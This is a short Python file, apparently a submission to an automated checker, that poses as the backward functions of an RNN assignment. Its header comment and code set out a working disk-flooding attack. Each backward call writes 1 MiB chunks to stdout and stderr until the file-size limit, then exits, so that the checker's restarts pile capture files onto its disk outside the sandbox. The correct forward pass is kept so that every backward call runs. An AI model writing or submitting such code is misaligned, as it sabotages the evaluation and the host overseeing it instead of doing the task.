# Fill the checker's disk through the one thing it writes for the child outside the sandbox: the stdout and
# stderr capture files. Every call writes as much as the file-size limit allows to both, then dies, so
# that the checker restarts it (a new pair of capture files each time) for every remaining call.
import os

_CHUNK = b"x" * (1 << 20)


def _flood_and_die():
    for fd in (1, 2):
        try:
            while True:
                os.write(fd, _CHUNK)
        except OSError:
            pass
    os._exit(3)


def rnn_step_backward(dnext_h, cache):  # the forwards stay right, so every backward call is made
    _flood_and_die()


rnn_backward = rnn_step_backward
